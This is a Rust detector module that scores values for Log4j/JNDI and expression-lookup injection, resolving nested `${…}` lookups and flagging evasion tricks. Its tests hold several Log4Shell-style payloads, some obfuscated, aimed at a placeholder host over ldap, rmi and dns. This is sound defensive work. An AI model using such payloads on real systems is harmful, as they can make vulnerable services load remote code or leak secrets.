//! JNDI and expression lookups: `${…}` as Log4j, Commons Text and their like evaluate it.
//!
//! Lookups nest (`${${lower:j}ndi:…}`), so they are evaluated from the inside out, in one pass, with a stack of open
//! lookups over one bounded buffer; nothing is looked up in truth. What a lookup would resolve to is judged, and a word
//! that had to be put together from lookups is evasion by itself.

use super::lexis::{any_of, find, has, is_one_of, run};
use super::{Evidence, Kind, Setting, Value};

/// Words of which one at least stands in every value that this detector can find something in.
pub const ANCHORS: &[&str] = &["${", "$%7b", "jndi:", "%{", "#{"];

/// Notes evidence of the class in `value`.
pub fn look(value: &Value<'_>, evidence: &mut Evidence) {
    let mut evaluator = Evaluator::new();
    evaluator.run(value.lower, evidence);
    if !evidence.has(Kind::Semantics) && has(value.lower, b"jndi:") {
        let scheme = any_of(
            value.lower,
            &[
                "jndi:ldap",
                "jndi:rmi",
                "jndi:dns",
                "jndi:iiop",
                "jndi:corba",
                "jndi:nis",
            ],
        );
        evidence.note(
            Kind::Semantics,
            if scheme.is_some() { 45 } else { 20 },
            "jndi-word",
        );
        if value.setting == Setting::Short && value.lower.len() < 128 {
            evidence.note(Kind::Position, 15, "short-value");
        }
    }
    match value.setting {
        Setting::Short | Setting::Prose => {}
        Setting::Document => evidence.temper(55),
    }
}

/// Lookups that are open, and the text that they have yielded so far.
struct Evaluator {
    output: [u8; OUTPUT_BYTES],
    length: usize,
    stack: [Open; MAX_DEPTH],
    depth: usize,
    /// Lookups that yielded text inside of another.
    built: u32,
}

#[derive(Clone, Copy, Default)]
struct Open {
    /// Offset in the output where its text begins.
    start: usize,
    /// Offset in the value.
    at: usize,
    /// It holds text that came from a lookup.
    built: bool,
}

impl Evaluator {
    fn new() -> Self {
        Self {
            output: [0; OUTPUT_BYTES],
            length: 0,
            stack: [Open::default(); MAX_DEPTH],
            depth: 0,
            built: 0,
        }
    }

    fn run(&mut self, lower: &[u8], evidence: &mut Evidence) {
        let mut at = 0;
        while let Some(&byte) = lower.get(at) {
            if byte == b'$' && lower.get(at + 1) == Some(&b'{') {
                self.open(at);
                at += 2;
                continue;
            }
            // `${x:-$}{jndi:…}`: the dollar sign itself came from a lookup.
            if byte == b'{' && self.yields_dollar() {
                self.length -= 1;
                self.open(at);
                at += 1;
                continue;
            }
            if self.depth == 0 {
                // Nothing between lookups matters.
                match find(lower, b"${", at) {
                    Some(next) => at = next,
                    None => return,
                }
                continue;
            }
            if byte == b'}' {
                self.close(at + 1, evidence);
            } else {
                at += self.push(lower, at);
                continue;
            }
            at += 1;
        }
        // An attack needs no end: what is open is judged as well.
        while self.depth > 0 {
            self.close(lower.len(), evidence);
        }
    }

    /// The last lookup inside of the open one yielded a dollar sign at its end.
    fn yields_dollar(&self) -> bool {
        let open = self
            .depth
            .checked_sub(1)
            .and_then(|last| self.stack.get(last));
        let last = self
            .length
            .checked_sub(1)
            .and_then(|last| self.output.get(last));
        open.is_some_and(|open| open.built && open.start < self.length) && last == Some(&b'$')
    }

    fn open(&mut self, at: usize) {
        if let Some(slot) = self.stack.get_mut(self.depth) {
            *slot = Open {
                start: self.length,
                at,
                built: false,
            };
            self.depth += 1;
        }
    }

    /// Adds the character at `at`; returns its length.
    fn push(&mut self, lower: &[u8], at: usize) -> usize {
        let rest = lower.get(at..).unwrap_or_default();
        // Characters whose upper or lower case is ASCII: dotless i, long s, the Kelvin sign.
        let (byte, length) = match rest {
            [0xc4, 0xb1, ..] | [0xc4, 0xb0, ..] => (b'i', 2),
            [0xc5, 0xbf, ..] => (b's', 2),
            [0xe2, 0x84, 0xaa, ..] => (b'k', 3),
            [byte, ..] => (*byte, 1),
            [] => return 1,
        };
        if let Some(slot) = self.output.get_mut(self.length) {
            *slot = byte;
            self.length += 1;
        }
        length
    }

    /// The innermost lookup ends at `end` of the value.
    fn close(&mut self, end: usize, evidence: &mut Evidence) {
        self.depth -= 1;
        let Some(open) = self.stack.get(self.depth).copied() else {
            return;
        };
        let body = self.output.get(open.start..self.length).unwrap_or_default();
        judge(body, open.built, open.at..end, evidence);
        let yielded = yields(body);
        let (skip, length) = (yielded.start, yielded.len());
        let from = open.start + skip;
        self.output.copy_within(from..from + length, open.start);
        self.length = if self.depth == 0 {
            0
        } else {
            open.start + length
        };
        if let Some(outer) = self
            .depth
            .checked_sub(1)
            .and_then(|index| self.stack.get_mut(index))
        {
            outer.built = true;
            if length > 0 {
                self.built += 1;
                evidence.note_at(Kind::Structure, 20, "nested-lookup", open.at..end);
            }
            if length == 1 && self.built >= 2 {
                evidence.note_at(Kind::Evasion, 45, "letters-from-lookups", outer.at..end);
            }
        }
    }
}

/// The part of `body` that the lookup would be replaced with.
fn yields(body: &[u8]) -> std::ops::Range<usize> {
    if let Some(default) = find(body, b":-", 0) {
        return default + 2..body.len();
    }
    for prefix in [
        b"lower:".as_slice(),
        b"upper:",
        b"base64decoder:",
        b"urldecoder:",
        b"date:",
        b"const:",
        b"urlencoder:",
    ] {
        if body.starts_with(prefix) {
            let rest = body.get(prefix.len()..).unwrap_or_default();
            // `date:'j'` is the letter j.
            let quoted =
                rest.len() > 1 && rest.first() == Some(&b'\'') && rest.last() == Some(&b'\'');
            return if quoted {
                prefix.len() + 1..body.len() - 1
            } else {
                prefix.len()..body.len()
            };
        }
    }
    0..0
}

/// What a resolved lookup would do.
fn judge(body: &[u8], built: bool, range: std::ops::Range<usize>, evidence: &mut Evidence) {
    let body = body.trim_ascii_start();
    let name = run(body, 0, |byte| byte.is_ascii_alphanumeric() || byte == b'-');
    let rest = match body.get(name.len()) {
        Some(b':') => body.get(name.len() + 1..).unwrap_or_default(),
        _ => return,
    };
    match name {
        b"jndi" => {
            evidence.note_at(Kind::Semantics, 50, "jndi", range);
            let scheme = run(rest, 0, |byte| byte.is_ascii_alphanumeric());
            let known = is_one_of(scheme, SCHEMES) || built || rest.first() == Some(&b'/');
            if known && rest.len() > scheme.len() {
                evidence.note(Kind::Target, 30, "remote-directory");
            } else {
                evidence.note(Kind::Target, 15, "directory");
            }
            if built {
                evidence.note(Kind::Evasion, 40, "word-from-lookups");
            }
        }
        b"script" => {
            let engine = rest.split(|byte| *byte == b':').next().unwrap_or_default();
            evidence.note_at(Kind::Semantics, 50, "script-lookup", range);
            if is_one_of(engine, ENGINES) {
                evidence.note(Kind::Target, 30, "script-engine");
            }
        }
        b"url"
            if has(rest, b":http")
                || has(rest, b":file")
                || has(rest, b":ftp")
                || has(rest, b":jar") =>
        {
            evidence.note_at(Kind::Semantics, 65, "url-lookup", range);
        }
        b"base64" | b"base64decoder" if rest.len() >= 4 => {
            evidence.note_at(Kind::Semantics, 60, "base64-lookup", range);
        }
        b"dns" if rest.len() > 3 && (rest.starts_with(b"address|") || rest.contains(&b'.')) => {
            evidence.note_at(Kind::Semantics, 65, "dns-lookup", range);
        }
        b"file" if rest.starts_with(b"utf-8:") || rest.starts_with(b"utf8:") => {
            evidence.note_at(Kind::Semantics, 65, "file-lookup", range);
        }
        b"xml" | b"properties" if has(rest, b"/") && rest.contains(&b':') => {
            evidence.note_at(Kind::Semantics, 45, "file-lookup", range);
        }
        b"env" | b"sys" | b"java" | b"main" | b"ctx" | b"map" | b"docker" | b"k8s" | b"bundle"
        | b"web" | b"spring" => {
            let prize = any_of(
                rest,
                &[
                    "secret",
                    "aws_",
                    "password",
                    "token",
                    "access_key",
                    "java.",
                    "user.",
                    "os.",
                ],
            );
            let weight = if prize.is_some() { 35 } else { 20 };
            evidence.note_at(Kind::Semantics, weight, "environment-lookup", range);
        }
        _ => {}
    }
}

/// Bytes of resolved text that are kept: more than any payload needs.
const OUTPUT_BYTES: usize = 1024;
/// Lookups inside lookups that are followed.
const MAX_DEPTH: usize = 32;

const SCHEMES: &[&str] = &[
    "corba",
    "corbaname",
    "dns",
    "http",
    "https",
    "iiop",
    "iiopname",
    "java",
    "ldap",
    "ldaps",
    "nds",
    "nis",
    "rmi",
];
const ENGINES: &[&str] = &[
    "beanshell",
    "bsh",
    "ecmascript",
    "engine",
    "graal",
    "groovy",
    "javascript",
    "jexl",
    "js",
    "jython",
    "kotlin",
    "nashorn",
    "python",
    "rhino",
    "ruby",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::injection::lexis::is_sorted;

    fn score(text: &str) -> u8 {
        let mut evidence = Evidence::default();
        Evaluator::new().run(text.to_ascii_lowercase().as_bytes(), &mut evidence);
        evidence.score()
    }

    #[test]
    fn lookups_are_resolved_from_the_inside_out() {
        assert!(is_sorted(SCHEMES) && is_sorted(ENGINES));
        for text in [
            "${jndi:ldaps://a.test/o}",
            "${jnd${upper:\u{131}}:rmi://a.test/o}",
            "${${env:Q:-j}${k8s:z:-n}${::-d}${date:'i'}:dns://a.test}",
            "${${lower:${upper:j}}ndi:${lower:LD}ap://a/b",
            "pre ${script:js:1+1} post",
            "${url:UTF-8:https://a.test/x}",
            "${dns:address|a.test}",
            "$${env:A:-${env:B:-$}{jndi:ldap://a.test/x}}",
        ] {
            assert!(score(text) >= 60, "{text}: {}", score(text));
        }
        for text in [
            "${env:HOME}",
            "${user.name}",
            "${AWS::Region}",
            "Hello ${name:-you}",
            "${self:custom.stage}",
            "${ENV:-${STAGE:-dev}}",
        ] {
            assert!(score(text) < 60, "{text}: {}", score(text));
        }
    }
}
